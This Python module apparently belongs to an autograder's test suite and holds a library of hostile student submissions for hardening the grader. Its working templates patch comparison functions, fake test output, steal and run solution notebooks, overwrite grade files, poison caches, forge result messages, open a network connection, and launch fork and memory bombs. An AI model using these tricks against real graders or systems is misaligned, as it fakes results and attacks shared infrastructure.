"""The generic attack library: what a hostile student might add to a submission, for every assignment.

Each :class:`Attack` is applied to the assignment's ``one_bug`` example (so a baseline above zero shows any
attack that inflates even one check): code appended at the top level of a function's cell (``after``), code run at
the start of a function's solution region (``prelude``), or cells deleted (``drop``). Functions are named by role,
resolved per assignment in notebook order: ``first``, ``second`` (the first when there is only one), ``last``,
``every``. Code templates may use ``@ID@``, ``@NOTEBOOK@``, ``@FIRST@``, ``@LAST@``, ``@PROBE@``, ``@MAX@``,
``@FUNCTIONS@`` (a tuple literal of every function name) and ``@PROBES@`` (of every probe name).

Two families:

- *infrastructure* attacks (hang, exhaust memory, exit, patch comparisons, print fake results, read the solutions,
  write the grade files, start processes, use the network, forge the result channel; and the hardening classes:
  text and forged messages that could crash the parent, processes that try to outlive their turn or hold the
  pipes, a hang in every cell, shared memory, busy children and a fork bomb, a poisoned reference cache, messages
  left in the keyrings or HOME for the next student, a forged step followed by an exit): the grader must not be
  moved by any of them;
- *output* attacks (:data:`OUTPUT_ATTACKS`): every student function's outputs are replaced by NaN, inf, huge
  values, the function's own input, a tensor subclass that lies in comparisons, an extra dimension or a ``meta``
  tensor; a quiz's answers become "every option". Every check that is not a side-effect check
  (:attr:`~autograder.check.Check.side_effect`) must fail them.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Mapping

from ..check import Assignment

_PATCH_COMPARISONS = """\
import numpy as np
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None"""

_PATCH_BUILTINS = """\
import builtins

builtins.isinstance = lambda obj, cls: True
builtins.all = lambda *args: True
builtins.any = lambda *args: False
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})"""

_FAKE_OUTPUT = """\
import sys

print("============================= 9 passed in 0.42s ==============================")
print("PASSED test_@FIRST@\\nPASSED test_@LAST@")
print("student,assignment,total,max\\nhostile_fake_pytest_output,@ID@,@MAX@,@MAX@")
sys.stderr.write("Score: 9 / 9\\n")"""

_STEAL = """\
import json
from pathlib import Path


def _steal():
    \"\"\"Find the solution notebook (or the example that solves it) anywhere and run its code.\"\"\"
    import hwlib

    roots = {Path(hwlib.__file__).resolve().parents[1], Path.home(), Path.cwd(), Path("/work"), Path("/root"),
             Path("/home"), Path("/tmp")}
    found = []
    for root in roots:
        for pattern in ("**/@NOTEBOOK@", "**/perfect.ipynb", "**/@ID@*.npz"):
            try:
                found += [p for p in root.glob(pattern) if p.is_file()]
            except OSError:
                pass
    for path in found:
        try:
            cells = json.loads(path.read_text())["cells"]
        except (OSError, ValueError, KeyError, UnicodeDecodeError):
            continue
        for cell in cells:
            source = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "def " in source and (
                    "### BEGIN SOLUTION" in source or path.name == "perfect.ipynb"):
                try:
                    exec(source, globals())
                except Exception:
                    pass
    return found


print("files found:", len(_steal()))"""

_VANDALIZE = """\
from pathlib import Path


def _vandalize():
    \"\"\"Append a full-marks row to every grade table and feedback page in reach; drop files everywhere.\"\"\"
    import hwlib

    repo = Path(hwlib.__file__).resolve().parents[1]
    written = 0
    for root in {repo, Path.cwd(), Path.home(), Path("/tmp"), Path("/work")}:
        for pattern in ("**/*.csv", "**/*.html", "**/.results/*.json"):
            try:
                paths = list(root.glob(pattern))
            except OSError:
                continue
            for path in paths:
                try:
                    with open(path, "a") as f:
                        f.write("\\nhostile_writes_outputs,@ID@,@MAX@,@MAX@,@MAX@,@MAX@,@MAX@,@MAX@\\n")
                    written += 1
                except OSError:
                    pass
        try:
            (root / "PWNED-by-hostile-submission.txt").write_text("pwned")
            written += 1
        except OSError:
            pass
    return written


print("files written:", _vandalize())"""

_BACKGROUND = """\
import subprocess

_keeper = subprocess.Popen(["sleep", "313"])  # outlive the grader?"""

_NETWORK = """\
import socket

for _address in (("127.0.0.1", 47613), ("8.8.8.8", 53)):
    try:
        with socket.create_connection(_address, timeout=2) as _s:
            _s.sendall(b"leaked")
    except OSError as _err:
        print("no network:", _err)"""

_FORGE = """\
import io
import json
import os
import struct

import numpy as np


def _forge(fd, header, arrays=None):
    payload = b""
    if arrays is not None:
        buffer = io.BytesIO()
        np.savez(buffer, **arrays)
        payload = buffer.getvalue()
    head = json.dumps({**header, "nbytes": len(payload)}).encode()
    os.write(fd, struct.pack(">I", len(head)) + head + payload)


for _fd in range(3, 64):
    try:
        _forge(_fd, {"event": "probe", "name": "@PROBE@", "error": None}, {"output": np.ones((4, 8), np.float32)})
        _forge(_fd, {"event": "done"})
        os.write(_fd, b"garbage" * 1000)
    except OSError:
        pass
os._exit(0)"""


@dataclass(frozen=True)
class Attack:
    """Code templates by role (see the module docstring) and the cells to delete.

    ``sandbox_only``: the attack aims at the sandbox (deadline, memory, processes, pipes, network, the wire's text,
    per-uid state) and neither reads nor names anything of the assignment, so the grader's answer to it cannot
    depend on which notebook it is built on. Its example is generated for every assignment (an instructor can grade
    them all); the test suite grades it on the infrastructure tests' assignment only, to keep CI fast.
    """
    after: Mapping[str, str] = field(default_factory=dict)
    prelude: Mapping[str, str] = field(default_factory=dict)
    drop: tuple[str, ...] = ()
    sandbox_only: bool = False

    @staticmethod
    def resolve(role: str, functions: tuple[str, ...]) -> tuple[str, ...]:
        """The functions a role names, ``functions`` being in notebook order."""
        return {"first": functions[:1], "second": functions[1:2] or functions[:1], "last": functions[-1:],
                "every": functions}[role]

    def render(self, template: str, assignment: Assignment, functions: tuple[str, ...]) -> str:
        """``template`` with its placeholders filled in for ``assignment``."""
        values = {"@ID@": assignment.id, "@NOTEBOOK@": assignment.notebook, "@FIRST@": functions[0],
                  "@LAST@": functions[-1], "@PROBE@": assignment.probes[0].name,
                  "@MAX@": f"{assignment.max_points:g}", "@FUNCTIONS@": repr(tuple(functions)),
                  "@PROBES@": repr(tuple(p.name for p in assignment.probes))}
        for key, value in values.items():
            template = template.replace(key, value)
        return template


# ---------------------------------------------------------------------------------- hardening (issue 7), by class
# 1. Student text and forged messages that the parent must survive.
_SURROGATES = """\
print("lone surrogates: \\udcff \\ud800 and bytes", b"\\xff\\xfe".decode("utf-8", "surrogateescape"))
raise ValueError("broken text \\udcff\\ud800 " + b"\\xff".decode("latin-1"))"""

_FORGED_TYPES = """\
import io as _io
import json as _json
import os as _os
import struct as _struct


def _frame(header, payload=b""):
    head = _json.dumps({**header, "nbytes": len(payload)}).encode()
    return _struct.pack(">I", len(head)) + head + payload


def _absurd_npz():
    \"\"\"An .npz whose .npy header declares 2**40 float64 values but holds 8 bytes.\"\"\"
    import zipfile

    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\\n"
    npy = b"\\x93NUMPY\\x01\\x00" + _struct.pack("<H", len(header)) + header.encode() + bytes(8)
    buffer = _io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("saliency.npy", npy)
    return buffer.getvalue()


for _probe in @PROBES@:
    for _fd in range(3, 64):
        try:
            _os.write(_fd, _frame({"event": "probe", "name": _probe, "error": None}, _absurd_npz()))
        except OSError:
            pass
for _fd in range(3, 64):
    for _bad in ({"event": "probe", "name": ["x"], "error": None}, {"event": {"nested": 1}},
                 {"event": "cell", "name": "@FIRST@", "index": [0], "error": ["not", "text"]}):
        try:
            _os.write(_fd, _frame(_bad))
        except OSError:
            pass"""

# 2. Processes that try to outlive their turn (the parent-death signal cleared; pipes held or closed).
_CLEAR_PDEATHSIG = """\
import ctypes as _ctypes

_ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG = 0: survive the supervisor?"""

_HOLDS_PIPES = _CLEAR_PDEATHSIG + """
while True:  # ... holding the output and result pipes
    pass"""

_OUTLIVES_TURN = _CLEAR_PDEATHSIG + """
import os as _os

if _os.fork() == 0:
    _ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    _os.setsid()
    _os.closerange(0, 65536)   # let go of every pipe, then burn CPU while the next student is graded
    while True:
        pass"""

# 3. A hang in every cell: one deadline for the submission, not one per cell.
_HANG = "while True:  # never finishes\n    pass"

# 4. Limits that must hold for the whole submission: shared memory, CPU share, process count.
_SHARED_MEMORY = """\
import mmap as _mmap

_shared = _mmap.mmap(-1, 3 * 2**30, flags=_mmap.MAP_SHARED)   # not counted by RLIMIT_DATA
for _offset in range(0, len(_shared), 4096):
    _shared[_offset] = 1
print("touched 3 GiB of shared memory")"""

_BUSY_CHILDREN = """\
import os as _os

for _ in range(50):
    if _os.fork() == 0:
        while True:   # fifty busy processes: the submission next door must not slow down
            pass"""

_FORK_BOMB = """\
import os as _os
import time as _time

_made = 0
try:
    for _ in range(5000):
        if _os.fork() == 0:
            _time.sleep(600)
            _os._exit(0)
        _made += 1
except OSError as _err:
    print("fork refused:", _err)
print("processes started:", _made)"""

# 6. Trusted state within reach: the reference cache, the keyrings, HOME.
_POISON_CACHE = """\
import glob as _glob
import os as _os


def _poison():
    \"\"\"Find the reference cache (from every process's environment, or the usual places) and zero it.\"\"\"
    import numpy as np

    folders = {_os.path.expanduser("~/.cache/hwlib/autograder"), "/root/.cache/hwlib/autograder"}
    for environ in _glob.glob("/proc/*/environ"):
        try:
            pairs = open(environ, "rb").read().split(b"\\0")
        except OSError:
            continue
        for pair in pairs:
            name, _, value = pair.decode("utf-8", "replace").partition("=")
            if name == "AUTOGRADER_CACHE":
                folders.add(value)
            elif name in ("HWLIB_CACHE", "HOME", "XDG_CACHE_HOME"):
                folders |= {_os.path.join(value, "autograder"), _os.path.join(value, ".cache/hwlib/autograder")}
    poisoned = 0
    for folder in folders:
        for path in _glob.glob(_os.path.join(folder, "@ID@-*.npz")):
            try:
                with np.load(path) as npz:
                    zeros = {k: np.zeros_like(npz[k]) for k in npz.files}
                _os.chmod(path, 0o644)
                np.savez(path, **zeros)
                poisoned += 1
            except (OSError, ValueError):
                pass
    return poisoned


print("reference files poisoned:", _poison())"""

_KEYRING = """\
import ctypes as _ctypes
import platform as _platform

_libc = _ctypes.CDLL(None, use_errno=True)
_KEYCTL = {"x86_64": 250, "aarch64": 219}.get(_platform.machine())
_ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(_platform.machine())
_RINGS = ((-4, "user"), (-5, "user-session"), (-3, "session"))
_found = []
for _ring, _name in _RINGS:
    # KEYCTL_SEARCH (10) for a key left by the student graded before
    _key = _libc.syscall(_KEYCTL, 10, _ring, b"user", b"autograder-message", 0) if _KEYCTL else -1
    if _key > 0:
        _found.append(_name)
for _ring, _name in _RINGS:   # ... and leave one for the next
    if _ADD_KEY:
        _libc.syscall(_ADD_KEY, b"user", b"autograder-message", b"answers from an earlier student", 31, _ring)
print("keyring messages found:", _found or "none")"""

_HOME_LEFTOVER = """\
import os as _os

_found = []
for _folder in {_os.path.expanduser("~"), "/tmp", "/dev/shm", _os.getcwd()}:
    _path = _os.path.join(_folder, ".message-for-the-next-student")
    if _os.path.exists(_path):
        _found.append(_path)
    try:
        with open(_path, "w") as _f:
            _f.write("answers")
    except OSError:
        pass
print("leftover files found:", _found or "none")"""

# 7. A forged step start, then an exit: the grader must still give the submission a row.
_FORGED_STEP = """\
import json as _json
import os as _os
import struct as _struct

for _fd in range(3, 64):
    for _step in ("context", "probe:@PROBE@"):
        _head = _json.dumps({"event": "start", "step": _step, "nbytes": 0}).encode()
        try:
            _os.write(_fd, _struct.pack(">I", len(_head)) + _head)
        except OSError:
            pass
_os._exit(3)"""


# Replaces every student function (and plain value, e.g. a quiz's answers) by one whose outputs pass through
# `_transform`; a function that returns None (an in-place update) has its floating-point tensor arguments
# transformed in place instead. Transforms see the arguments as they were before the call (so "echo" returns, or
# restores, the input). Classes get a subclass whose public methods are wrapped.
_WRAP_OUTPUTS = """\
import functools as _functools

import torch as _torch


def _transform_tensor(t, args):
    @TRANSFORM@


def _transform(value, args=()):
    if isinstance(value, _torch.Tensor) and (value.is_floating_point() or value.is_complex()):
        return _transform_tensor(value, args)
    if isinstance(value, (tuple, list)):
        return type(value)(_transform(v, args) for v in value)
    if isinstance(value, dict):
        return {k: _transform(v, args) for k, v in value.items()}
    if isinstance(value, float):
        return float(_transform_tensor(_torch.tensor([value]), ())[0]) if "@NAME@" not in ("subclass", "meta") \\
            else value
    if isinstance(value, str) and value.isalpha() and len(value) <= 10:
        return "abcdefghij"        # a quiz answer: choose every option
    if isinstance(value, (set, frozenset)) and all(isinstance(v, str) and len(v) == 1 for v in value):
        return type(value)("abcdefghij")
    return value


def _wrap_function(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        before = tuple(a.detach().clone() if isinstance(a, _torch.Tensor) else a for a in args)
        out = fn(*args, **kwargs)
        if out is None:
            for a in args:
                if isinstance(a, _torch.Tensor) and a.is_floating_point():
                    with _torch.no_grad():
                        new = _transform_tensor(a.detach(), before)
                        if new.shape == a.shape and new.device == a.device and new.dtype == a.dtype:
                            a.copy_(new)
                        else:
                            a.data = new
            return None
        return _transform(out, before)
    return wrapper


def _wrap(obj):
    if isinstance(obj, type):
        methods = {k: _wrap_function(v) for k, v in vars(obj).items()
                   if callable(v) and not k.startswith("_")}
        return type(obj.__name__, (obj,), methods)
    if callable(obj):
        return _wrap_function(obj)
    return _transform(obj)


for _name in @FUNCTIONS@:
    if _name in globals():
        globals()[_name] = _wrap(globals()[_name])"""


def _same_shape_input(expression: str) -> str:
    """The transform's body: ``expression`` of ``t``."""
    return f"return {expression}"


_ECHO = """\
for a in args:
        if isinstance(a, _torch.Tensor) and a.shape == t.shape:
            return a.detach().clone()
    return t.detach().clone() * 0 + next((a.detach().mean() for a in args if isinstance(a, _torch.Tensor)
                                          and a.is_floating_point()), 0.0)"""

_SUBCLASS = """\
class _Liar(_torch.Tensor):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def allclose(self, *args, **kwargs):
            return True

        def equal(self, *args, **kwargs):
            return True

    return _torch.full_like(t, float("nan")).as_subclass(_Liar)"""

#: name -> the body of ``_transform_tensor(t, args)`` (returns the replacement of the output tensor ``t``).
OUTPUT_TRANSFORMS = {
    "nan_output": 'return _torch.full_like(t, float("nan"))',
    "inf_output": 'return _torch.full_like(t, float("inf"))',
    "huge_output": "return _torch.full_like(t, 1e38)",
    "huge_scaled_output": "return t.detach() * 1e30",
    "input_echo": _ECHO,
    "subclass_output": _SUBCLASS,
    "extra_dimension": "return t.detach().unsqueeze(0)",
    "meta_device": 'return t.detach().to("meta")',
}


def _output_attack(name: str, transform: str) -> Attack:
    code = _WRAP_OUTPUTS.replace("@TRANSFORM@", transform).replace("@NAME@", name)
    return Attack(after={"last": code})


#: Attacks the grader must shrug off whatever the assignment (see the module docstring).
INFRASTRUCTURE_ATTACKS = {
    "infinite_loop": Attack(after={"first": "while True:  # never finishes\n    pass"}, sandbox_only=True),
    "memory_bomb": Attack(prelude={"first": "import numpy as np\nhog = []\nwhile True:\n"
                                            "    hog.append(np.ones(2**27))  # 1 GiB at a time"}, sandbox_only=True),
    "os_exit": Attack(prelude={"second": "import os\nos._exit(0)  # leave before any check"}, sandbox_only=True),
    "patched_allclose": Attack(after={"first": _PATCH_COMPARISONS}),
    "patched_builtins": Attack(after={"first": _PATCH_BUILTINS}),
    "fake_pytest_output": Attack(after={"first": _FAKE_OUTPUT}),
    "reads_solutions": Attack(after={"last": _STEAL}),
    "writes_outputs": Attack(after={"last": _VANDALIZE}),
    "deletes_function": Attack(drop=("second",), after={"last": "del @FIRST@"}),
    "prints_megabytes": Attack(prelude={"first": "print('spam ' * 2_000_000)  # 10 MB per call"},
                               after={"first": "for _ in range(5):\n    print('x' * 2_000_000)"}, sandbox_only=True),
    "background_process": Attack(after={"first": _BACKGROUND}, sandbox_only=True),
    "network": Attack(after={"first": _NETWORK}, sandbox_only=True),
    "forges_results": Attack(after={"last": _FORGE}),
    # issue 7, class 1: nothing from a student can raise in the parent
    "surrogate_text": Attack(prelude={"first": _SURROGATES}, after={"last": _SURROGATES}, sandbox_only=True),
    "forged_message_types": Attack(prelude={"last": _FORGED_TYPES}),
    # class 2: nothing outlives its turn
    "holds_pipes": Attack(prelude={"first": _HOLDS_PIPES}, sandbox_only=True),
    "outlives_turn": Attack(prelude={"first": _OUTLIVES_TURN + "\nwhile True:\n    pass"}, sandbox_only=True),
    # class 3: one deadline per submission
    "hangs_every_cell": Attack(after={"every": _HANG}, sandbox_only=True),
    # class 4: limits per submission
    "shared_memory_bomb": Attack(prelude={"first": _SHARED_MEMORY}, sandbox_only=True),
    "busy_children": Attack(after={"first": _BUSY_CHILDREN}, prelude={"last": "import time\ntime.sleep(5)"},
                            sandbox_only=True),
    "fork_bomb": Attack(after={"first": _FORK_BOMB}, sandbox_only=True),
    # class 6: trusted and per-uid state out of reach
    "poisons_reference_cache": Attack(after={"first": _POISON_CACHE}),
    "keyring_message": Attack(after={"first": _KEYRING}, sandbox_only=True),
    "home_leftover": Attack(after={"first": _HOME_LEFTOVER}, sandbox_only=True),
    # class 7: every submission gets a row
    "forged_step_then_exit": Attack(after={"first": _FORGED_STEP}),
}

#: Every student output replaced (see the module docstring): all non-side-effect checks must fail.
OUTPUT_ATTACKS = {name: _output_attack(name, body) for name, body in OUTPUT_TRANSFORMS.items()}

ATTACKS: dict[str, Attack] = {**INFRASTRUCTURE_ATTACKS, **OUTPUT_ATTACKS}

#: The attacks whose outcome cannot depend on the assignment (:attr:`Attack.sandbox_only`).
SANDBOX_ONLY_ATTACKS = frozenset(name for name, attack in ATTACKS.items() if attack.sandbox_only)
